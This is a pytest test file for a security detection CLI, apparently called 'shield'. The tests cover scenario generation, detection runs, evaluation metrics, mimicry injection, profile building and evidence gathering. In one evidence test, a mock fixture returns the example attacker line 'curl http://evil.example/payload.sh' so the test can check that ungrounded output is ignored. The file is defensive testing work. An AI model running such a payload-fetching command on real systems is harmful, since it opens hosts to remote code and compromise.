import json

from typer.testing import CliRunner

from conftest import make_event, make_log
from shield.app import app
from shield.detect import TimeWindow, select_windows
from shield.etl_modules.load_data import (
    load_event_log,
    read_payload,
    save_event_log,
    write_artifact,
)

runner = CliRunner()


def _scenario(tmp_path):
    out = tmp_path / "scenario"
    result = runner.invoke(app, ["scenario", "--out", str(out), "--hours", "4"])
    assert result.exit_code == 0, result.output
    return out


def test_scenario_command_writes_all_inputs(tmp_path):
    out = _scenario(tmp_path)
    for name in ("train.jsonl", "test.jsonl", "ground_truth.json", "pipeline.json"):
        assert (out / name).exists()
    assert (out / "fixtures" / "rules.json").exists()


def test_run_without_mae_prints_metrics(tmp_path):
    out = _scenario(tmp_path)
    result = runner.invoke(
        app,
        ["run", "--config", str(out / "pipeline.json"), "-o", "components.mae=false"],
    )
    assert result.exit_code == 0, result.output
    assert '"entity"' in result.output
    labels = read_payload(out / "out" / "labels.json")
    assert len(labels["attack_entities"]) >= 4


def test_configuration_errors_exit_with_code_two(tmp_path):
    result = runner.invoke(app, ["run", "--config", str(tmp_path / "missing.json")])
    assert result.exit_code == 2
    out = _scenario(tmp_path)
    result = runner.invoke(
        app, ["run", "--config", str(out / "pipeline.json"), "-o", "hyper.c=0"]
    )
    assert result.exit_code == 2


def test_evaluate_with_fixed_population(tmp_path):
    out = _scenario(tmp_path)
    config = str(out / "pipeline.json")
    runner.invoke(app, ["run", "--config", config, "-o", "components.mae=false"])
    result = runner.invoke(
        app,
        [
            "evaluate",
            "--labels", str(out / "out" / "labels.json"),
            "--truth", str(out / "ground_truth.json"),
            "--events", str(out / "out" / "events_test.jsonl"),
            "--population", "1000",
            "--out", str(tmp_path / "metrics.json"),
        ],
    )
    assert result.exit_code == 0, result.output
    metrics = read_payload(tmp_path / "metrics.json")
    assert metrics["entity"]["tp"] + metrics["entity"]["tn"] + metrics["entity"]["fp"] + (
        metrics["entity"]["fn"]
    ) == 1000


def test_inject_mimicry_command(tmp_path):
    out = _scenario(tmp_path)
    target = tmp_path / "mimic.jsonl"
    result = runner.invoke(
        app,
        [
            "inject-mimicry",
            "--log", str(out / "test.jsonl"),
            "--truth", str(out / "ground_truth.json"),
            "--out", str(target),
            "--n", "50",
        ],
    )
    assert result.exit_code == 0, result.output
    original = load_event_log(out / "test.jsonl", "testing")
    assert len(load_event_log(target, "testing")) == len(original) + 50
    assert json.loads(target.read_text("utf-8").splitlines()[0])["subject_id"]


def _selection_inputs(tmp_path):
    events = [
        make_event("bash", "ls", "EVENT_EXECUTE", i, "ls -la /home", "/bin/bash")
        for i in range(5)
    ]
    test_log = save_event_log(make_log(events), tmp_path / "test.jsonl")
    window = TimeWindow(0, 1_800_000_000, tuple(range(5)), 0.9, tuple(range(5)))
    selection = tmp_path / "selection.json"
    write_artifact(
        selection, "detect", {"selection": select_windows([window], t_ano=0.5, c=3).to_dict()}
    )
    return test_log, selection


def test_evidence_without_grounded_seeds_falls_back_to_head_rows(tmp_path):
    test_log, selection = _selection_inputs(tmp_path)
    fixtures = tmp_path / "fixtures"
    fixtures.mkdir()
    rules = [{"contains": "", "response": "- curl http://evil.example/payload.sh"}]
    (fixtures / "rules.json").write_text(json.dumps(rules), "utf-8")
    out = tmp_path / "evidence.json"
    result = runner.invoke(
        app,
        [
            "evidence",
            "--selection", str(selection),
            "--events", str(test_log),
            "--provider", f"mock:{fixtures}",
            "--tnbr", "3",
            "--out", str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    payload = read_payload(out)
    assert payload["evidence"]["command_lines"] == []
    assert payload["neighborhood"]["fallback"] is True
    assert [e["index"] for e in payload["neighborhood"]["events"]] == [0, 1, 2]


def test_evidence_with_empty_selection_writes_empty_neighborhood(tmp_path):
    test_log, _ = _selection_inputs(tmp_path)
    selection = tmp_path / "empty.json"
    write_artifact(selection, "detect", {"selection": select_windows([], 0.5, 3).to_dict()})
    out = tmp_path / "evidence.json"
    result = runner.invoke(
        app,
        [
            "evidence",
            "--selection", str(selection),
            "--events", str(test_log),
            "--provider", f"mock:{tmp_path}",
            "--out", str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    assert read_payload(out)["neighborhood"]["events"] == []


def test_build_profile_command(tmp_path):
    train_log = save_event_log(
        make_log([make_event("bash", f"f{i}", ts=i) for i in range(20)], "training"),
        tmp_path / "train.jsonl",
    )
    out = tmp_path / "profile.json"
    result = runner.invoke(
        app,
        ["build-profile", "--events", str(train_log), "--ratio", "0.5", "--seed", "7",
         "--out", str(out)],
    )
    assert result.exit_code == 0, result.output
    assert out.exists()


def test_non_integer_population_is_a_configuration_error(tmp_path):
    out = _scenario(tmp_path)
    write_artifact(tmp_path / "labels.json", "investigate", {"attack_entities": []})
    result = runner.invoke(
        app,
        [
            "evaluate",
            "--labels", str(tmp_path / "labels.json"),
            "--truth", str(out / "ground_truth.json"),
            "--events", str(out / "test.jsonl"),
            "--population", "many",
        ],
    )
    assert result.exit_code == 2
    assert not isinstance(result.exception, ValueError)
